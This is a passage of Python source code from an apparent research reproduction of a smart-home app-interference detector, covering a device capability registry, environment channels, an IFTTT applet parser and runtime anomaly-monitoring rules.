        ("setThermostatFanMode", [("thermostatFanMode", None)], ["mode"]),
        ("setThermostatMode", [("thermostatMode", None)], ["mode"]),
        ("setSchedule", [], ["schedule"]),
    ]),
    _cap("thermostatCoolingSetpoint", [_num("coolingSetpoint", "F", 35, 95)], [
        ("setCoolingSetpoint", [("coolingSetpoint", None)], ["temperature"]),
    ]),
    _cap("thermostatFanMode", [_enum("thermostatFanMode", "auto", "circulate", "on")], [
        ("fanAuto", [("thermostatFanMode", "auto")]),
        ("fanCirculate", [("thermostatFanMode", "circulate")]),
        ("fanOn", [("thermostatFanMode", "on")]),
        ("setThermostatFanMode", [("thermostatFanMode", None)], ["mode"]),
    ]),
    _cap("thermostatHeatingSetpoint", [_num("heatingSetpoint", "F", 35, 95)], [
        ("setHeatingSetpoint", [("heatingSetpoint", None)], ["temperature"]),
    ]),
    _cap("thermostatMode", [_enum("thermostatMode", "auto", "cool", "emergency heat", "heat", "off")], [
        ("auto", [("thermostatMode", "auto")]),
        ("cool", [("thermostatMode", "cool")]),
        ("emergencyHeat", [("thermostatMode", "emergency heat")]),
        ("heat", [("thermostatMode", "heat")]),
        ("off", [("thermostatMode", "off")]),
        ("setThermostatMode", [("thermostatMode", None)], ["mode"]),
    ]),
    _cap("timedSession", [
        _enum("sessionStatus", "stopped", "canceled", "running", "paused"),
        _num("timeRemaining", "s", 0, 86400),
    ], [
        ("start", [("sessionStatus", "running")]),
        ("stop", [("sessionStatus", "stopped")]),
        ("pause", [("sessionStatus", "paused")]),
        ("cancel", [("sessionStatus", "canceled")]),
        ("setTimeRemaining", [("timeRemaining", None)], ["time"]),
    ]),
    _cap("tone", [], [("beep", [])]),
    _cap("tvChannel", [_str("tvChannel")], [
        ("channelUp", []),
        ("channelDown", []),
        ("setTvChannel", [("tvChannel", None)], ["channel"]),
    ]),
    _cap("valve", [_enum("valve", "closed", "open")], [
        ("open", [("valve", "open")]),
        ("close", [("valve", "closed")]),
    ]),
    _cap("windowShade", [
        _enum("windowShade", "closed", "closing", "open", "opening",
              "partially open", "unknown"),
    ], [
        ("open", [("windowShade", "open")]),
        ("close", [("windowShade", "closed")]),
        ("pause", [("windowShade", "partially open")]),
        ("presetPosition", [("windowShade", "partially open")]),
    ]),
    _cap("airConditionerMode", [_str("airConditionerMode")], [
        ("setAirConditionerMode", [("airConditionerMode", None)], ["mode"]),
    ]),
    _cap("dishwasherMode", [_str("dishwasherMode")], [
        ("setDishwasherMode", [("dishwasherMode", None)], ["mode"]),
    ]),
    _cap("dishwasherOperatingState", [_enum("machineState", "pause", "run", "stop")], [
        ("setMachineState", [("machineState", None)], ["state"]),
    ]),
    _cap("dryerMode", [_str("dryerMode")], [
        ("setDryerMode", [("dryerMode", None)], ["mode"]),
    ]),
    _cap("dryerOperatingState", [_enum("machineState", "pause", "run", "stop")], [
        ("setMachineState", [("machineState", None)], ["state"]),
    ]),
    _cap("ovenMode", [_str("ovenMode")], [
        ("setOvenMode", [("ovenMode", None)], ["mode"]),
    ]),
    _cap("ovenSetpoint", [_num("ovenSetpoint", "F", 0, 550)], [
        ("setOvenSetpoint", [("ovenSetpoint", None)], ["setpoint"]),
    ]),
    _cap("rapidCooling", [_enum("rapidCooling", "off", "on")], [
        ("setRapidCooling", [("rapidCooling", None)], ["state"]),
    ]),
    _cap("refrigerationSetpoint", [_num("refrigerationSetpoint", "F", -20, 60)], [
        ("setRefrigerationSetpoint", [("refrigerationSetpoint", None)], ["setpoint"]),
    ]),
    _cap("robotCleanerCleaningMode", [_str("robotCleanerCleaningMode")], [
        ("setRobotCleanerCleaningMode", [("robotCleanerCleaningMode", None)], ["mode"]),
    ]),
    _cap("robotCleanerMovement", [_str("robotCleanerMovement")], [
        ("setRobotCleanerMovement", [("robotCleanerMovement", None)], ["movement"]),
    ]),
    _cap("robotCleanerTurboMode", [_enum("robotCleanerTurboMode", "on", "off")], [
        ("setRobotCleanerTurboMode", [("robotCleanerTurboMode", None)], ["mode"]),
    ]),
    _cap("washerMode", [_str("washerMode")], [
        ("setWasherMode", [("washerMode", None)], ["mode"]),
    ]),
    _cap("washerOperatingState", [_enum("machineState", "pause", "run", "stop")], [
        ("setMachineState", [("machineState", None)], ["state"]),
    ]),
    _cap("execute", [_str("data")], [("execute", [], ["command"])]),
    _cap("remoteControlStatus", [_enum("remoteControlEnabled", "true", "false")]),
    _cap("statelessPowerToggleButton", [], [("setButton", [], ["button"])]),
]

CAPABILITIES: dict[str, Capability] = {cap.name: cap for cap in _RAW_CAPABILITIES}


def capability(name: str) -> Capability:
    """Look up a capability; accepts both ``switch`` and
    ``capability.switch`` forms."""
    if name.startswith("capability."):
        name = name[len("capability."):]
    try:
        return CAPABILITIES[name]
    except KeyError:
        raise KeyError(f"unknown capability: {name!r}") from None


def command_count() -> int:
    """Total number of device-control commands across all capabilities."""
    return sum(len(cap.commands) for cap in CAPABILITIES.values())


def find_command(command: str, capability_hint: str | None = None) -> CommandSpec | None:
    """Find the spec of ``command``; a capability hint disambiguates
    names shared between capabilities (e.g. ``on``/``off``/``open``)."""
    if capability_hint is not None:
        try:
            cap = capability(capability_hint)
        except KeyError:
            cap = None  # non-standard `device.*` input types (paper §VIII-B)
        if cap is not None and command in cap.commands:
            return cap.commands[command]
    for cap in CAPABILITIES.values():
        if command in cap.commands:
            return cap.commands[command]
    return None


_ALL_COMMAND_NAMES = {
    name for cap in CAPABILITIES.values() for name in cap.commands
}


def is_sink_command(name: str) -> bool:
    """True if ``name`` is a capability-protected device command (one of
    the symbolic executor's sinks)."""
    return name in _ALL_COMMAND_NAMES
