"""Measurable environment channels of the home (paper Fig. 1 data layer).

A channel is a natural feature of the home environment that sensors can
measure and actuators can influence: temperature, illuminance, humidity,
power draw, sound level, and so on.  Channels are how the detector
reasons about *indirect* interference — e.g. a heater raising the
reading of a temperature sensor (paper Sections VI-B and VI-C).
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class Channel:
    """A measurable environment feature.

    ``low``/``high`` bound the value domain used by the constraint
    solver; ``sensed_by`` lists ``(capability, attribute)`` pairs whose
    readings track this channel.
    """

    name: str
    unit: str
    low: float
    high: float
    sensed_by: tuple[tuple[str, str], ...] = field(default_factory=tuple)


CHANNELS: dict[str, Channel] = {
    channel.name: channel
    for channel in [
        Channel(
            "temperature",
            "F",
            -40,
            150,
            (("temperatureMeasurement", "temperature"),
             ("thermostat", "temperature")),
        ),
        Channel(
            "illuminance",
            "lux",
            0,
            100000,
            (("illuminanceMeasurement", "illuminance"),),
        ),
        Channel(
            "humidity",
            "%",
            0,
            100,
            (("relativeHumidityMeasurement", "humidity"),),
        ),
        Channel("power", "W", 0, 100000, (("powerMeter", "power"),)),
        Channel("energy", "kWh", 0, 1000000, (("energyMeter", "energy"),)),
        Channel(
            "sound",
            "dB",
            0,
            140,
            (("soundPressureLevel", "soundPressureLevel"),),
        ),
        Channel(
            "co2",
            "ppm",
            0,
            10000,
            (("carbonDioxideMeasurement", "carbonDioxide"),),
        ),
        Channel("voltage", "V", 0, 500, (("voltageMeasurement", "voltage"),)),
        Channel("uv", "index", 0, 12, (("ultravioletIndex", "ultravioletIndex"),)),
        Channel("airquality", "CAQI", 0, 100, (("airQualitySensor", "airQuality"),)),
        Channel("ph", "pH", 0, 14, (("pHMeasurement", "pH"),)),
        Channel("dust", "ug/m3", 0, 1000, (("dustSensor", "dustLevel"),)),
    ]
}

_ATTRIBUTE_TO_CHANNEL: dict[tuple[str, str], str] = {
    pair: channel.name
    for channel in CHANNELS.values()
    for pair in channel.sensed_by
}

_ATTRIBUTE_NAME_TO_CHANNEL: dict[str, str] = {
    attribute: channel.name
    for channel in CHANNELS.values()
    for (_, attribute) in channel.sensed_by
}


def channel_for_attribute(attribute: str, capability: str | None = None) -> Channel | None:
    """Map a sensor attribute to the channel it measures, if any.

    When ``capability`` is given, the precise (capability, attribute)
    pair is used; otherwise the attribute name alone disambiguates
    (attribute names are unique across measurement capabilities).
    """
    if capability is not None:
        name = _ATTRIBUTE_TO_CHANNEL.get((capability, attribute))
        if name is not None:
            return CHANNELS[name]
    name = _ATTRIBUTE_NAME_TO_CHANNEL.get(attribute)
    if name is None:
        return None
    return CHANNELS[name]
