"""IFTTT-style template rule extraction (paper §VIII-D.4, Table IV).

IFTTT defines automations through graphical templates rather than
programs; rules can be recovered by parsing the applet text with NLP
(the paper cites Hwang et al. [28]).  This package provides a
lightweight NLP pipeline: a phrase lexicon over services/devices/
attributes, a chunker for the "IF <trigger> THEN <action>" shape, and an
extractor producing the same :class:`repro.rules.model.Rule` objects the
SmartApp front-end produces, so IFTTT applets participate in CAI
detection alongside SmartApps.
"""

from repro.ifttt.nlp import TokenSpan, chunk_applet, normalize
from repro.ifttt.extractor import Applet, IftttExtractionError, extract_applet_rule

__all__ = [
    "Applet",
    "IftttExtractionError",
    "TokenSpan",
    "chunk_applet",
    "extract_applet_rule",
    "normalize",
]
