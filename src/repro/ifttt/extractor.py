"""IFTTT applet -> Rule extraction.

Maps chunked applet phrases onto the shared rule model through a device/
attribute/command lexicon, so IFTTT rules can be checked for CAI threats
against SmartApp rules (multi-platform applicability, Table IV).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.rules.model import Action, Condition, Rule, Trigger
from repro.symex.values import BinExpr, Const, DeviceRef, EventValue

# phrase -> (capability, attribute, value)
_TRIGGER_LEXICON: list[tuple[tuple[str, ...], tuple[str, str, str | None]]] = [
    (("motion", "detected"), ("capability.motionSensor", "motion", "active")),
    (("motion", "stops"), ("capability.motionSensor", "motion", "inactive")),
    (("door", "opens"), ("capability.contactSensor", "contact", "open")),
    (("door", "closes"), ("capability.contactSensor", "contact", "closed")),
    (("window", "opens"), ("capability.contactSensor", "contact", "open")),
    (("door", "unlocked"), ("capability.lock", "lock", "unlocked")),
    (("door", "locked"), ("capability.lock", "lock", "locked")),
    (("i", "leave"), ("capability.presenceSensor", "presence", "not present")),
    (("leave", "home"), ("capability.presenceSensor", "presence", "not present")),
    (("i", "arrive"), ("capability.presenceSensor", "presence", "present")),
    (("arrive", "home"), ("capability.presenceSensor", "presence", "present")),
    (("smoke", "detected"), ("capability.smokeDetector", "smoke", "detected")),
    (("leak", "detected"), ("capability.waterSensor", "water", "wet")),
    (("water", "detected"), ("capability.waterSensor", "water", "wet")),
    (("switch", "turned", "on"), ("capability.switch", "switch", "on")),
    (("switch", "turned", "off"), ("capability.switch", "switch", "off")),
    (("sun", "sets"), ("location", "sunset", None)),
    (("sun", "rises"), ("location", "sunrise", None)),
    (("button", "pressed"), ("capability.button", "button", "pushed")),
]

_NUMERIC_TRIGGERS: list[tuple[str, tuple[str, str]]] = [
    ("temperature", ("capability.temperatureMeasurement", "temperature")),
    ("humidity", ("capability.relativeHumidityMeasurement", "humidity")),
    ("illuminance", ("capability.illuminanceMeasurement", "illuminance")),
    ("brightness", ("capability.illuminanceMeasurement", "illuminance")),
    ("power", ("capability.powerMeter", "power")),
]

# phrase -> (capability, device input, command, device type hint)
_ACTION_LEXICON: list[tuple[tuple[str, ...], tuple[str, str, str, str]]] = [
    (("turn", "on", "light"), ("capability.switch", "light", "on", "light")),
    (("turn", "off", "light"), ("capability.switch", "light", "off", "light")),
    (("turn", "on", "lights"), ("capability.switch", "light", "on", "light")),
    (("turn", "off", "lights"), ("capability.switch", "light", "off", "light")),
    (("turn", "on", "heater"), ("capability.switch", "heater", "on", "heater")),
    (("turn", "off", "heater"), ("capability.switch", "heater", "off", "heater")),
    (("turn", "on", "fan"), ("capability.switch", "fan", "on", "fan")),
    (("turn", "off", "fan"), ("capability.switch", "fan", "off", "fan")),
    (("open", "window"), ("capability.switch", "window", "on", "windowOpener")),
    (("close", "window"), ("capability.switch", "window", "off", "windowOpener")),
    (("open", "garage"), ("capability.garageDoorControl", "garage", "open", "garageDoor")),
    (("close", "garage"), ("capability.garageDoorControl", "garage", "close", "garageDoor")),
    (("lock", "door"), ("capability.lock", "lock", "lock", "doorLock")),
    (("unlock", "door"), ("capability.lock", "lock", "unlock", "doorLock")),
    (("open", "shades"), ("capability.windowShade", "shades", "open", "windowShade")),
    (("close", "shades"), ("capability.windowShade", "shades", "close", "windowShade")),
    (("sound", "siren"), ("capability.alarm", "siren", "siren", "siren")),
    (("take", "photo"), ("capability.imageCapture", "camera", "take", "camera")),
    (("notify", "me"), ("notification", "notification", "sendPush", "")),
    (("send", "sms"), ("notification", "notification", "sendSms", "")),
]

_COMPARATORS = {
    "above": ">",
    "over": ">",
    "exceeds": ">",
    "below": "<",
    "under": "<",
    "drops": "<",
}


class IftttExtractionError(Exception):
    """The applet text could not be mapped onto a rule."""


@dataclass(frozen=True, slots=True)
class Applet:
    """An IFTTT applet: a name plus its template sentence."""

    name: str
    text: str


def _match_phrase(words: tuple[str, ...], lexicon) -> object | None:
    for phrase, payload in lexicon:
        if all(word in words for word in phrase):
            return payload
    return None


def _numeric_trigger(words: tuple[str, ...]):
    for keyword, (capability, attribute) in _NUMERIC_TRIGGERS:
        if keyword not in words:
            continue
        op = None
        for word, symbol in _COMPARATORS.items():
            if word in words:
                op = symbol
                break
        threshold = None
        for word in words:
            cleaned = word.rstrip("%°f")
            try:
                threshold = float(cleaned)
                break
            except ValueError:
                continue
        if op is not None and threshold is not None:
            return capability, attribute, op, threshold
    return None


def extract_applet_rule(applet: Applet) -> Rule:
    """Parse an applet sentence into a :class:`Rule`."""
    from repro.ifttt.nlp import chunk_applet

    try:
        spans = chunk_applet(applet.text)
    except ValueError as exc:
        raise IftttExtractionError(str(exc)) from exc
    trigger_span = next(span for span in spans if span.role == "trigger")
    action_span = next(span for span in spans if span.role == "action")

    trigger = _build_trigger(applet, trigger_span.words)
    action = _build_action(applet, action_span.words)
    return Rule(
        app_name=applet.name,
        rule_id=f"{applet.name}/R1",
        trigger=trigger,
        condition=Condition(),
        action=action,
    )


def _build_trigger(applet: Applet, words: tuple[str, ...]) -> Trigger:
    payload = _match_phrase(words, _TRIGGER_LEXICON)
    if payload is not None:
        capability, attribute, value = payload
        if capability == "location":
            return Trigger(subject="location", attribute=attribute)
        device = DeviceRef(f"{applet.name}_trigger", capability)
        constraint = (
            BinExpr("==", EventValue(), Const(value)) if value is not None else None
        )
        return Trigger(
            subject=device.name,
            attribute=attribute,
            constraint=constraint,
            device=device,
        )
    numeric = _numeric_trigger(words)
    if numeric is not None:
        capability, attribute, op, threshold = numeric
        device = DeviceRef(f"{applet.name}_trigger", capability)
        return Trigger(
            subject=device.name,
            attribute=attribute,
            constraint=BinExpr(op, EventValue(), Const(threshold)),
            device=device,
        )
    raise IftttExtractionError(
        f"no trigger phrase recognised in {applet.text!r}"
    )


def _build_action(applet: Applet, words: tuple[str, ...]) -> Action:
    payload = _match_phrase(words, _ACTION_LEXICON)
    if payload is None:
        raise IftttExtractionError(
            f"no action phrase recognised in {applet.text!r}"
        )
    capability, input_name, command, _type_hint = payload
    if capability == "notification":
        return Action(subject="notification", command=command)
    device = DeviceRef(f"{applet.name}_{input_name}", capability)
    return Action(
        subject=device.name,
        command=command,
        device=device,
        capability=capability.split(".", 1)[-1],
    )


def action_type_hint(applet_text: str) -> str | None:
    """The device-type hint for the applet's action (for resolvers)."""
    words = tuple(normalize_text(applet_text))
    payload = _match_phrase(words, _ACTION_LEXICON)
    if payload is None:
        return None
    return payload[3] or None


def normalize_text(text: str) -> list[str]:
    from repro.ifttt.nlp import normalize

    return normalize(text)
