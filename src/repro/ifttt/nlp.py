"""Lightweight NLP over IFTTT applet text.

Real IFTTT applets are described by short natural-language titles such
as "If motion is detected in the living room, then turn on the hallway
light".  The pipeline here is deliberately classic: normalization,
lexicon-driven tokenization, and IF/THEN chunking — enough to recover
trigger/condition/action structure from the template phrasing without a
statistical model (the phrasing is generated from templates, so the
grammar is closed).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_STOPWORDS = {
    "the", "a", "an", "my", "your", "in", "at", "of", "to", "is", "are",
    "gets", "get", "becomes", "when", "please", "then",
}

_FILLER = re.compile(r"[^a-z0-9<>=.:%°-]+")


def normalize(text: str) -> list[str]:
    """Lowercase, strip punctuation, drop stopwords."""
    words = _FILLER.split(text.lower())
    return [word for word in words if word and word not in _STOPWORDS]


@dataclass(frozen=True, slots=True)
class TokenSpan:
    """A chunk of the applet: trigger / condition / action words."""

    role: str            # "trigger" | "condition" | "action"
    words: tuple[str, ...]

    def text(self) -> str:
        return " ".join(self.words)


_SPLIT_THEN = re.compile(r"\bthen\b|,\s*then\b", re.IGNORECASE)
_SPLIT_IF = re.compile(r"^\s*if\b", re.IGNORECASE)
_SPLIT_WHILE = re.compile(r"\b(?:while|only if|and if|as long as)\b", re.IGNORECASE)


def chunk_applet(text: str) -> list[TokenSpan]:
    """Split "If X [while Y], then Z" into role-tagged chunks.

    Raises ValueError when the text does not follow the template shape.
    """
    match = _SPLIT_THEN.search(text)
    if match is None:
        raise ValueError(f"applet text has no THEN clause: {text!r}")
    head = text[: match.start()]
    action_text = text[match.end():]
    if not _SPLIT_IF.search(head):
        raise ValueError(f"applet text has no IF clause: {text!r}")
    head = _SPLIT_IF.sub("", head, count=1)
    condition_text = None
    while_match = _SPLIT_WHILE.search(head)
    if while_match is not None:
        condition_text = head[while_match.end():]
        head = head[: while_match.start()]
    spans = [TokenSpan("trigger", tuple(normalize(head)))]
    if condition_text is not None:
        spans.append(TokenSpan("condition", tuple(normalize(condition_text))))
    spans.append(TokenSpan("action", tuple(normalize(action_text))))
    for span in spans:
        if not span.words:
            raise ValueError(f"empty {span.role} clause in {text!r}")
    return spans
