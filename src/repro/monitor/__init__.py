"""Runtime interference monitoring (DESIGN.md §16).

Sliding-window analytics over live (or recorded) smart-home event
streams: confirmation of statically predicted CAI threats, anomaly
rules the solver cannot see, and the evidence observations that feed
back into the handling policies.
"""

from repro.monitor.engine import MonitorEngine, Observation, observation_key
from repro.monitor.rules import (
    KIND_ANOMALY,
    KIND_CONFIRMED,
    KIND_CONTRADICTED,
    CommandLoopRule,
    ConfirmationRule,
    Finding,
    MonitorRule,
    OffHoursRule,
    PowerAnomalyRule,
    ThreatEvidence,
    ToggleSpamRule,
    compile_confirmations,
    default_anomaly_rules,
    threat_key,
)
from repro.monitor.windows import RollingBaseline, SlidingWindow

__all__ = [
    "MonitorEngine",
    "Observation",
    "observation_key",
    "MonitorRule",
    "ConfirmationRule",
    "ToggleSpamRule",
    "PowerAnomalyRule",
    "OffHoursRule",
    "CommandLoopRule",
    "Finding",
    "ThreatEvidence",
    "compile_confirmations",
    "default_anomaly_rules",
    "threat_key",
    "KIND_CONFIRMED",
    "KIND_CONTRADICTED",
    "KIND_ANOMALY",
    "SlidingWindow",
    "RollingBaseline",
]
