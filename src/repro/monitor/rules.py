"""The monitor rule catalog (DESIGN.md §16).

A :class:`MonitorRule` watches one home's event stream and emits
:class:`Finding`\\ s — rule-local observations the
:class:`~repro.monitor.engine.MonitorEngine` stamps with the home id,
the event-time timestamp and a deterministic dedup key.

Two families ship:

* **Confirmation rules**, compiled from the home's statically detected
  :class:`~repro.detector.types.Threat`\\ s by
  :func:`compile_confirmations`: a predicted threat *fires* when the
  observable effects of its two rules' actions occur within a sliding
  window (ordered for trigger/condition interference, unordered for
  action interference).  Disabling-condition threats invert: observing
  the interfered rule act *after* the interferer predicted to disable
  it contradicts the static verdict.
* **Anomaly rules** the solver cannot see (SNIPPETS 2–3, Zhou et al.
  arXiv:1811.03241): toggle spam, power readings off a rolling
  baseline, off-hours actuation, and command loops (A→B→…→A
  oscillation — the runtime shadow of the k-hop roadmap item).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.capabilities.registry import find_command
from repro.detector.types import Threat, ThreatType
from repro.monitor.windows import RollingBaseline, SlidingWindow
from repro.runtime.events import Event

#: Observation kinds, part of the wire vocabulary (schemas.py).
KIND_CONFIRMED = "confirmed"
KIND_CONTRADICTED = "contradicted"
KIND_ANOMALY = "anomaly"


@dataclass(frozen=True, slots=True)
class Finding:
    """One rule-local observation, before the engine stamps identity.

    ``dedup`` is extra dedup context beyond (rule, kind, subject,
    threat_key) — e.g. a time bucket so a recurring anomaly yields one
    observation per episode, or empty so a confirmation is global
    (exactly once per threat per home)."""

    kind: str
    subject: str
    detail: str = ""
    threat_key: str = ""
    window_seconds: float = 0.0
    dedup: str = ""


@dataclass(frozen=True, slots=True)
class ThreatEvidence:
    """What the monitor has learned about one predicted threat —
    the view :meth:`~repro.service.home.TenantHome.evidence` hands to
    evidence-aware handling policies."""

    confirmed: int = 0
    contradicted: int = 0
    watch_seconds: float = 0.0


def threat_key(threat: Threat) -> str:
    """A stable identity for a predicted threat, independent of the
    witness/detail text: type plus the two rule ids (rule ids embed
    their app name).  Chained threats key on their endpoints, like the
    Allowed list does."""
    return (
        f"{threat.type.value}:{threat.rule_a.rule_id}"
        f"->{threat.rule_b.rule_id}"
    )


class MonitorRule:
    """One windowed check over a home's event stream.

    ``channels`` narrows dispatch to exact ``(subject, attribute)``
    pairs (the engine indexes on them); ``None`` means the rule sees
    every event, optionally pre-filtered by ``attributes``.  State is
    transient — windows do not survive process restarts; only the
    emitted observations do (they persist in the home's ledger).
    """

    name = "abstract"
    channels: frozenset[tuple[str, str]] | None = None
    attributes: frozenset[str] | None = None

    def observe(self, event: Event, now: float) -> list[Finding]:
        raise NotImplementedError

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.name!r})"


# ----------------------------------------------------------------------
# Predicted-threat confirmation


class ConfirmationRule(MonitorRule):
    """A compiled witness-sequence watcher for one predicted threat.

    ``steps`` is a tuple of match steps; each step is a tuple of
    ``(subject, attribute, value-or-None)`` alternatives (one action
    can drive several attributes — any of them counts).  Ordered mode
    requires step *i* at-or-after step *i-1*; unordered mode (the
    symmetric action-interference threats) just needs every step inside
    the window.  When the sequence completes, the rule emits one
    ``kind`` finding (``confirmed``, or ``contradicted`` for
    disabling-condition predictions) and resets.
    """

    def __init__(
        self,
        key: str,
        steps: tuple[tuple[tuple[str, str, str | None], ...], ...],
        *,
        window: float = 300.0,
        ordered: bool = True,
        kind: str = KIND_CONFIRMED,
        detail: str = "",
    ) -> None:
        self.name = f"confirm:{key}"
        self.threat_key = key
        self.steps = steps
        self.window = float(window)
        self.ordered = ordered
        self.kind = kind
        self.detail = detail
        self.channels = frozenset(
            (subject, attribute)
            for step in steps
            for subject, attribute, _value in step
        )
        self._stamps: list[float | None] = [None] * len(steps)

    def observe(self, event: Event, now: float) -> list[Finding]:
        stamps = self._stamps
        for index, step in enumerate(self.steps):
            for subject, attribute, value in step:
                if subject != event.subject or attribute != event.name:
                    continue
                if value is not None and str(event.value) != value:
                    continue
                if self.ordered and index > 0:
                    previous = stamps[index - 1]
                    if previous is None or now < previous:
                        break
                stamps[index] = now
                break
        if any(stamp is None for stamp in stamps):
            return []
        first = min(s for s in stamps if s is not None)
        last = max(s for s in stamps if s is not None)
        if last - first > self.window:
            # Too spread out: keep the freshest stamps and wait.
            if self.ordered:
                self._stamps = [None] * len(self.steps)
            else:
                self._stamps = [
                    s if s is not None and now - s <= self.window else None
                    for s in stamps
                ]
            return []
        self._stamps = [None] * len(self.steps)
        subject = self.steps[-1][0][0]
        return [
            Finding(
                kind=self.kind,
                subject=subject,
                detail=self.detail,
                threat_key=self.threat_key,
                window_seconds=self.window,
            )
        ]


def _effect_matchers(
    rule, devices: dict[str, dict[str, str]]
) -> tuple[tuple[str, str, str | None], ...]:
    """The observable event matchers for one rule's action: the home
    device its action targets (resolved from the app's recorded input
    bindings) and the attribute/value pairs its command drives, per the
    capability registry.  Commands without a registered effect (platform
    sinks like ``sendSms``) match on the command name — they never fire
    from a device stream, which is the right degraded mode."""
    action = rule.action
    mapping = devices.get(rule.app_name, {})
    input_name = (
        action.device.name if action.device is not None else action.subject
    )
    subject = mapping.get(input_name, input_name)
    spec = find_command(action.command, action.capability)
    if spec is not None and spec.sets:
        return tuple(
            (subject, attribute, value) for attribute, value in spec.sets
        )
    return ((subject, action.command, None),)


def compile_confirmations(
    threats: list[Threat],
    devices: dict[str, dict[str, str]],
    *,
    window: float = 300.0,
) -> list[ConfirmationRule]:
    """Compile the home's predicted threats into confirmation rules.

    ``devices`` maps app name → (device input name → home device id),
    i.e. each app's recorded configuration bindings — the same
    resolution detection used, so the monitor watches the exact
    devices the solver reasoned about.  Duplicate threat keys (the
    same pair re-reviewed) compile once.
    """
    compiled: list[ConfirmationRule] = []
    seen: set[str] = set()
    for threat in threats:
        key = threat_key(threat)
        if key in seen:
            continue
        seen.add(key)
        step_a = _effect_matchers(threat.rule_a, devices)
        step_b = _effect_matchers(threat.rule_b, devices)
        symmetric = threat.type in (
            ThreatType.ACTUATOR_RACE,
            ThreatType.GOAL_CONFLICT,
            ThreatType.LOOP_TRIGGERING,
        )
        if threat.type is ThreatType.DISABLING_CONDITION:
            kind = KIND_CONTRADICTED
            detail = (
                f"{threat.rule_b.rule_id} acted although "
                f"{threat.rule_a.rule_id} was predicted to disable it"
            )
        else:
            kind = KIND_CONFIRMED
            detail = (
                f"witness sequence observed: {threat.rule_a.rule_id}"
                f" -> {threat.rule_b.rule_id} ({threat.type.value})"
            )
        compiled.append(
            ConfirmationRule(
                key,
                (step_a, step_b),
                window=window,
                ordered=not symmetric,
                kind=kind,
                detail=detail,
            )
        )
    return compiled


# ----------------------------------------------------------------------
# Anomaly rules (SNIPPETS 2-3)


class ToggleSpamRule(MonitorRule):
    """More than ``threshold`` switch events on one device inside the
    window — a flapping actuator or a rule fight the static pass never
    priced.  One observation per episode (the window clears on fire)."""

    name = "toggle-spam"
    attributes = frozenset({"switch"})

    def __init__(self, window: float = 30.0, threshold: int = 10) -> None:
        self.window = float(window)
        self.threshold = int(threshold)
        self._windows: dict[str, SlidingWindow] = {}

    def observe(self, event: Event, now: float) -> list[Finding]:
        window = self._windows.get(event.subject)
        if window is None:
            window = self._windows[event.subject] = SlidingWindow(self.window)
        window.push(now, event.value)
        if len(window) <= self.threshold:
            return []
        count = len(window)
        window.clear()
        return [
            Finding(
                kind=KIND_ANOMALY,
                subject=event.subject,
                detail=f"{count} switch toggles in {self.window:g}s",
                window_seconds=self.window,
                dedup=f"b{int(now // max(self.window, 1.0))}",
            )
        ]


class PowerAnomalyRule(MonitorRule):
    """Power readings that are non-positive or far above the device's
    rolling baseline (default: > 1.5x the mean of the last 32 good
    samples, once at least ``min_samples`` exist)."""

    name = "power-anomaly"
    attributes = frozenset({"power"})

    def __init__(
        self,
        factor: float = 1.5,
        min_samples: int = 5,
        baseline_size: int = 32,
        bucket: float = 300.0,
    ) -> None:
        self.factor = float(factor)
        self.min_samples = int(min_samples)
        self.baseline_size = int(baseline_size)
        self.bucket = float(bucket)
        self._baselines: dict[str, RollingBaseline] = {}

    def observe(self, event: Event, now: float) -> list[Finding]:
        try:
            value = float(event.value)  # type: ignore[arg-type]
        except (TypeError, ValueError):
            return []
        baseline = self._baselines.get(event.subject)
        if baseline is None:
            baseline = self._baselines[event.subject] = RollingBaseline(
                self.baseline_size
            )
        findings: list[Finding] = []
        dedup = f"b{int(now // max(self.bucket, 1.0))}"
        if value <= 0:
            findings.append(
                Finding(
                    kind=KIND_ANOMALY,
                    subject=event.subject,
                    detail=f"non-positive power reading {value:g}W",
                    window_seconds=self.bucket,
                    dedup=dedup,
                )
            )
        elif (
            baseline.count >= self.min_samples
            and value > self.factor * baseline.mean()
        ):
            findings.append(
                Finding(
                    kind=KIND_ANOMALY,
                    subject=event.subject,
                    detail=(
                        f"power {value:g}W exceeds {self.factor:g}x "
                        f"rolling mean {baseline.mean():.1f}W"
                    ),
                    window_seconds=self.bucket,
                    dedup=dedup,
                )
            )
        if value > 0:
            baseline.push(value)
        return findings


class OffHoursRule(MonitorRule):
    """Actuation outside the home's active hours (default 8AM-6PM of
    the event-time day).  One observation per device per day."""

    name = "off-hours"
    attributes = frozenset({"switch", "lock", "door", "alarm"})

    def __init__(
        self,
        start: float = 8 * 3600.0,
        end: float = 18 * 3600.0,
        attributes: frozenset[str] | None = None,
    ) -> None:
        self.start = float(start)
        self.end = float(end)
        if attributes is not None:
            self.attributes = frozenset(attributes)

    def observe(self, event: Event, now: float) -> list[Finding]:
        time_of_day = now % 86400.0
        if self.start <= time_of_day < self.end:
            return []
        return [
            Finding(
                kind=KIND_ANOMALY,
                subject=event.subject,
                detail=(
                    f"{event.name}={event.value} at "
                    f"{time_of_day / 3600.0:.1f}h (outside "
                    f"{self.start / 3600.0:g}-{self.end / 3600.0:g}h)"
                ),
                window_seconds=self.end - self.start,
                dedup=f"d{int(now // 86400.0)}",
            )
        ]


class CommandLoopRule(MonitorRule):
    """A channel revisited inside the window after at least
    ``min_cycle - 1`` *other* distinct channels fired in between:
    A→B→…→A oscillation, the runtime shadow of a loop-triggering or
    chained threat.  One observation per distinct channel cycle."""

    name = "command-loop"

    def __init__(self, window: float = 60.0, min_cycle: int = 3) -> None:
        self.window = float(window)
        self.min_cycle = int(min_cycle)
        self._trail = SlidingWindow(window)

    def observe(self, event: Event, now: float) -> list[Finding]:
        channel = (event.subject, event.name)
        self._trail.prune(now)
        items = self._trail.items()
        finding: list[Finding] = []
        last_index = -1
        for index in range(len(items) - 1, -1, -1):
            if items[index][1] == channel:
                last_index = index
                break
        if last_index >= 0:
            between: list[tuple[str, str]] = []
            for _ts, other in items[last_index + 1:]:
                if other != channel and other not in between:
                    between.append(other)
            if len(between) >= self.min_cycle - 1:
                path = " -> ".join(
                    f"{subject}.{attribute}"
                    for subject, attribute in
                    (channel, *between, channel)
                )
                cycle_id = "|".join(
                    sorted(
                        f"{subject}.{attribute}"
                        for subject, attribute in {channel, *between}
                    )
                )
                finding = [
                    Finding(
                        kind=KIND_ANOMALY,
                        subject=event.subject,
